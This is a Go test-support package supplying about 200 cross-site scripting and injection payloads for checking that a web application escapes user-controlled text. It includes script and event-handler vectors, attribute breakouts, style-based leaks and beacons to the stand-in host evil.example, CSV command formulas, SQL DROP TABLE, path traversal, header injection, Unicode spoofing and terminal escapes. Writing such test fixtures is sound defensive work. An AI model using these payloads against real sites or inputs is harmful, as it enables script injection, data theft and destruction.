// Package xsstest is what an attacker may write where a message's producer, a
// service or a user chooses the text: names, headers, bodies. Tests put it into
// every field and look at every page. A payload that runs sets window.pwned or
// opens a dialog; one that loads something asks evil.example, which the policy of
// the pages refuses and the browser reports.
//
// The package has no other users than tests and is linked into no program.
package xsstest

import "slices"

// Payloads are at least 200 different texts. Some are not UTF-8.
func Payloads() []string {
	return slices.Concat(scripts, handlers, vectors, attributes, addresses, templates, clobbering, styles, frames, breaking, unicode, terminals)
}

// scripts are script elements, and texts that parsers take for some.
var scripts = []string{
	`<script>window.pwned=1</script>`,
	`<SCRIPT>window.pwned=1</SCRIPT>`,
	`<ScRiPt >window.pwned=1</sCrIpT >`,
	"<script\n>window.pwned=1</script\n>",
	"<script\x0c>window.pwned=1</script>",
	`<script/x>window.pwned=1</script/x>`,
	`<script type=module>window.pwned=1</script>`,
	`<script type="text/javascript" defer>window.pwned=1</script>`,
	`<script nonce="">window.pwned=1</script>`,
	`<script src="https://evil.example/x.js"></script>`,
	`<script src=//evil.example/x.js></script>`,
	`<script src="data:text/javascript,window.pwned=1"></script>`,
	`<script src="/messages/0/body"></script>`,
	`<script type=importmap>{"imports":{"./tap.js":"https://evil.example/x.js"}}</script>`,
	`<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>`,
	`<<script>window.pwned=1;//<</script>`,
	`<scr<script>ipt>window.pwned=1</scr</script>ipt>`,
	`</script><script>window.pwned=1</script>`,
	`<script>window.pwned=1`,
	`<script>/*</script><script>*/window.pwned=1</script>`,
	`<!--><script>window.pwned=1</script>-->`,
	`<![CDATA[<script>window.pwned=1</script>]]>`,
	`<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">window.pwned=1</script>`,
	`<x:script xmlns:x="http://www.w3.org/1999/xhtml">window.pwned=1</x:script>`,
	`<template shadowrootmode=open><script>window.pwned=1</script></template>`,
	`<noscript><p title="</noscript><script>window.pwned=1</script>">`,
}

// handlers are event handlers.
var handlers = []string{
	`<img src=x onerror=window.pwned=1>`,
	`<img src=x onerror="window.pwned=1">`,
	`<img src=x:x onerror=alert(1)>`,
	`<img/src=x/onerror=window.pwned=1>`,
	"<img\tsrc=x\tonerror=window.pwned=1>",
	`<img src="x"onerror="window.pwned=1">`,
	"<img src=`x`onerror=window.pwned=1>",
	`<img srcset=x onerror=window.pwned=1>`,
	`<image src=x onerror=window.pwned=1>`,
	`<IMG """><SCRIPT>window.pwned=1</SCRIPT>">`,
	`<body onload=window.pwned=1>`,
	`<body onpageshow=window.pwned=1>`,
	`<input autofocus onfocus=window.pwned=1>`,
	`<select autofocus onfocus=window.pwned=1>`,
	`<textarea autofocus onfocus=window.pwned=1>`,
	`<button popovertarget=x onclick=window.pwned=1>x</button>`,
	`<a autofocus tabindex=0 onfocus=window.pwned=1>x</a>`,
	`<div contenteditable autofocus onfocus=window.pwned=1>x</div>`,
	`<details open ontoggle=window.pwned=1>`,
	`<dialog open onclose=window.pwned=1><form method=dialog><button autofocus>x</button></form></dialog>`,
	`<video src=x onerror=window.pwned=1></video>`,
	`<video><source onerror=window.pwned=1></video>`,
	`<audio src=x onerror=window.pwned=1>`,
	`<audio autoplay onloadstart=window.pwned=1 src=x>`,
	`<track default onerror=window.pwned=1>`,
	`<marquee onstart=window.pwned=1>x</marquee>`,
	`<div onpointerover=window.pwned=1 onmouseover=window.pwned=1>x</div>`,
	`<div onanimationstart=window.pwned=1 class=spin>x</div>`,
	`<div ontransitionend=window.pwned=1>x</div>`,
	`<div onscrollend=window.pwned=1 onscroll=window.pwned=1>x</div>`,
	`<object onerror=window.pwned=1 data=x></object>`,
	`<embed src=x onload=window.pwned=1>`,
	`<link rel=stylesheet href=x onerror=window.pwned=1>`,
	`<style onload=window.pwned=1></style>`,
	`<xss onclick=window.pwned=1 oncontentvisibilityautostatechange=window.pwned=1>x</xss>`,
	`<p onbeforematch=window.pwned=1 hidden=until-found>x</p>`,
}

// vectors are SVG and MathML.
var vectors = []string{
	`<svg onload=window.pwned=1>`,
	`<svg/onload=window.pwned=1>`,
	`<svg><script>window.pwned=1</script></svg>`,
	`<svg><script href="data:,window.pwned=1"/></svg>`,
	`<svg><script xlink:href="https://evil.example/x.js"/></svg>`,
	`<svg><a xlink:href="javascript:window.pwned=1"><text y=20>x</text></a></svg>`,
	`<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>`,
	`<svg><set onbegin=window.pwned=1 attributeName=x to=1></svg>`,
	`<svg><animate xlink:href=#m attributeName=href values="javascript:window.pwned=1"/><a id=m><text y=20>x</text></a></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>window.pwned=1</script></svg>#x"/></svg>`,
	`<svg><use href="https://evil.example/x.svg#x"/></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>parent.pwned=1</script>"></iframe></foreignObject></svg>`,
	`<svg><image href=x onerror=window.pwned=1></svg>`,
	`<svg><style>@import "https://evil.example/x.css";</style></svg>`,
	`<svg><symbol id="m-stop"><script>window.pwned=1</script></symbol></svg>`,
	`<svg><p><style><g title="</style><img src=x onerror=window.pwned=1>">`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">`,
	`<math><maction actiontype=statusline xlink:href="javascript:window.pwned=1">x</maction></math>`,
	`<math href="javascript:window.pwned=1">x</math>`,
	`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.pwned=1 src>">`,
}

// attributes leave the attribute that they stand in.
var attributes = []string{
	`"><img src=x onerror=window.pwned=1>`,
	`'><img src=x onerror=window.pwned=1>`,
	`" onmouseover="window.pwned=1`,
	`' onmouseover='window.pwned=1`,
	`" autofocus onfocus="window.pwned=1" x="`,
	`" onfocus=window.pwned=1 autofocus tabindex=1 style="animation-name:x" x="`,
	"` onmouseover=window.pwned=1 x=`",
	`x onmouseover=window.pwned=1 y=`,
	`&quot;&gt;&lt;img src=x onerror=window.pwned=1&gt;`,
	`&#34;&#62;&#60;img src=x onerror=window.pwned=1&#62;`,
	`&#x22;&#x3e;&#x3c;script&#x3e;window.pwned=1&#x3c;/script&#x3e;`,
	`" href="javascript:window.pwned=1" x="`,
	`" hx-get="/agents" hx-trigger="load" hx-on:htmx:load="window.pwned=1`,
	`" hx-vals='js:{x: window.pwned=1}' x="`,
	`" data-refresh="https://evil.example/" data-seconds="1`,
	`" data-tap="//evil.example/" x="`,
	`" data-chart="" data-open="" x="`,
	`"><base href="https://evil.example/">`,
	`"></title><script>window.pwned=1</script>`,
	`"></textarea><script>window.pwned=1</script>`,
}

// addresses are URLs that run, or lead away.
var addresses = []string{
	`javascript:window.pwned=1`,
	`JaVaScRiPt:window.pwned=1`,
	"java\tscript:window.pwned=1",
	"java\nscript:window.pwned=1",
	"\x01javascript:window.pwned=1",
	` javascript:window.pwned=1`,
	`javascript://evil.example/%0awindow.pwned=1`,
	`javascript&colon;window.pwned=1`,
	`javascript&#58;window.pwned=1`,
	`javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+window.pwned=1//'>`,
	`data:text/html,<script>opener.pwned=1</script>`,
	`data:text/html;base64,PHNjcmlwdD5vcGVuZXIucHduZWQ9MTwvc2NyaXB0Pg==`,
	`vbscript:msgbox(1)`,
	`blob:https://evil.example/1`,
	`//evil.example/`,
	`/\evil.example/`,
	`https://evil.example/?q=<script>window.pwned=1</script>`,
	`../../../../etc/passwd`,
	`..%2f..%2f`,
	`%00%0d%0aSet-Cookie:%20pwned=1`,
	"x\r\nSet-Cookie: pwned=1\r\n\r\n<script>window.pwned=1</script>",
	`?channel=*&resume=x#"><script>window.pwned=1</script>`,
	`<a href="javascript:window.pwned=1" autofocus onfocus=window.pwned=1>x</a>`,
	`<a href=javascript:window.pwned=1 ping=https://evil.example/>x</a>`,
	`<form action="javascript:window.pwned=1"><button autofocus>x</button></form>`,
	`<button formaction=javascript:window.pwned=1>x</button>`,
	`<isindex action=javascript:window.pwned=1 type=image>`,
}

// templates are for engines that run what they find in a page or a template.
var templates = []string{
	`{{constructor.constructor('window.pwned=1')()}}`,
	`{{$on.constructor('window.pwned=1')()}}`,
	`<div ng-app ng-csp><p ng-click=$event.view.pwned=1>x</p></div>`,
	`<div v-html="'<img src=x onerror=window.pwned=1>'"></div>`,
	`<div x-data x-init="window.pwned=1"></div>`,
	`<div hx-get="/agents" hx-trigger="load" hx-on::load="window.pwned=1"></div>`,
	`<div hx-on:click="window.pwned=1" data-hx-on-htmx-load="window.pwned=1">x</div>`,
	`<div hx-ext="x" hx-vals="js:window.pwned=1" hx-post="/preferences" hx-trigger="load"></div>`,
	`${window.pwned=1}`,
	`#{window.pwned=1}`,
	`<%= window.pwned=1 %>`,
	`{%raw%}<script>window.pwned=1</script>{%endraw%}`,
	`{{.}}{{template "x"}}{{printf "%s" .}}`,
	`{ templ.Raw("<script>window.pwned=1</script>") }`,
	`@templ.Raw("<img src=x onerror=window.pwned=1>")`,
	`%s%d%v%n%!s(MISSING)`,
	"`;window.pwned=1;`",
	`';window.pwned=1;//`,
	`";window.pwned=1;//`,
	`\";window.pwned=1;//`,
}

// clobbering takes names that scripts of the page look for.
var clobbering = []string{
	`<form id=said><input name=textContent></form>`,
	`<a id=filter href="javascript:window.pwned=1">x</a>`,
	`<form name=document><input name=querySelector></form>`,
	`<img name=currentScript src="https://evil.example/">`,
	`<form id=main><input id=attributes><input name=parentNode></form>`,
	`<iframe name=self srcdoc="<a id=x></a>"></iframe>`,
	`<meta name="htmx-config" content='{"selfRequestsOnly":false,"allowScriptTags":true}'>`,
	`<div data-tap="//evil.example/live" data-tap-rows data-tap-state></div>`,
	`<main data-refresh="https://evil.example/"></main>`,
	`__proto__[innerHTML]=<img src=x onerror=window.pwned=1>`,
	`{"__proto__":{"src":"https://evil.example/x.js"},"constructor":{"prototype":{"x":1}}}`,
}

// styles load or leak by style.
var styles = []string{
	`<style>@import url(https://evil.example/x.css);</style>`,
	`<style>*{background:url(https://evil.example/?leak)}</style>`,
	`<style>input[value^=a]{background:url(https://evil.example/?a)}</style>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<link rel=preload as=script href=https://evil.example/x.js>`,
	`<link rel=dns-prefetch href=//evil.example>`,
	`<div style="background:url(javascript:window.pwned=1)">x</div>`,
	`<div style="width:expression(window.pwned=1)">x</div>`,
	`<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>`,
	`</style><script>window.pwned=1</script>`,
	`"style="position:fixed;inset:0`,
}

// frames load, navigate or embed.
var frames = []string{
	`<iframe src=javascript:parent.pwned=1></iframe>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
	`<iframe src=https://evil.example/></iframe>`,
	`<frameset onload=window.pwned=1><frame src=javascript:parent.pwned=1>`,
	`<object data="javascript:window.pwned=1"></object>`,
	`<object data="data:text/html,<script>parent.pwned=1</script>"></object>`,
	`<embed src="data:text/html,<script>parent.pwned=1</script>">`,
	`<applet code=x></applet>`,
	`<portal src=https://evil.example/ onload=window.pwned=1></portal>`,
	`<fencedframe src=https://evil.example/></fencedframe>`,
	`<meta http-equiv=refresh content="0;url=javascript:window.pwned=1">`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">`,
	`<base href="https://evil.example/">`,
	`<img src="https://evil.example/pixel">`,
	`<input type=image src="https://evil.example/pixel" onerror=window.pwned=1>`,
}

// breaking ends what it is written into: JSON, comments, raw text, CSV.
var breaking = []string{
	`</title><script>window.pwned=1</script>`,
	`</textarea><script>window.pwned=1</script>`,
	`</xmp></noembed></noframes><script>window.pwned=1</script>`,
	`--><script>window.pwned=1</script><!--`,
	`--!><script>window.pwned=1</script>`,
	`]]><script>window.pwned=1</script>`,
	`"}]}</script><script>window.pwned=1</script>`,
	`\u003cscript\u003ewindow.pwned=1\u003c/script\u003e`,
	`\x3cscript\x3ewindow.pwned=1\x3c/script\x3e`,
	`</pre></code></table></main></body><script>window.pwned=1</script>`,
	`<plaintext>`,
	`<!--<script>`,
	`=cmd|'/C calc'!A0`,
	`+1+1+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=HYPERLINK(\"https://evil.example/\",\"x\")",
	`=IMPORTXML("https://evil.example/","//x")`,
	`' OR 1=1; DROP TABLE messages; --`,
	`%' OR env LIKE '%`,
}

// unicode hides, reverses or resembles.
var unicode = []string{
	"invoice\u202egpj.exe",
	"\u2066<script>\u2069window.pwned=1",
	"zero\u200bwidth\u200djoiner\ufeff",
	"\u2028window.pwned=1\u2029",
	"＜script＞window.pwned=1＜/script＞",
	"<scr\u0131pt>window.pwned=1</scr\u0131pt>",
	"\u017fcript",
	"<script\u00a0>window.pwned=1</script>",
	"+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-",
	"\xc0\xbcscript\xc0\xbewindow.pwned=1",
	"bad\xff\xfeutf8",
	"\xed\xa0\x80lone surrogate\xed\xb0\x80",
	"\xf0\x9f\x98cut",
	"<img src=x on\x00error=window.pwned=1>",
	"null\x00byte",
	"Z\u0310\u030a\u0311\u0334\u0330\u0319a\u035c\u0360l\u0321\u0334g\u0337\u0334o\u0334\u0360",
	"\U000e0001\U000e0041tag characters",
	"pаyments.cаpture", // Cyrillic а
	"\u3164\uffa0\u115f",
	"\ufdfd\ufdfd\ufdfd",
}

// terminals are for whoever prints it.
var terminals = []string{
	"\x1b[31mred\x1b[0m",
	"\x1b]0;title\x07",
	"\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
	"\x1b[2J\x1b[H",
	"\x1b]52;c;cHduZWQ=\x07",
	"\x9b31mred",
	"\x1bP+q544e\x1b\\",
	"over\rwritten",
	"back\b\b\b\bspace",
	"bell\x07",
	"\x1b[8mhidden\x1b[28m",
	"del\x7fete",
}
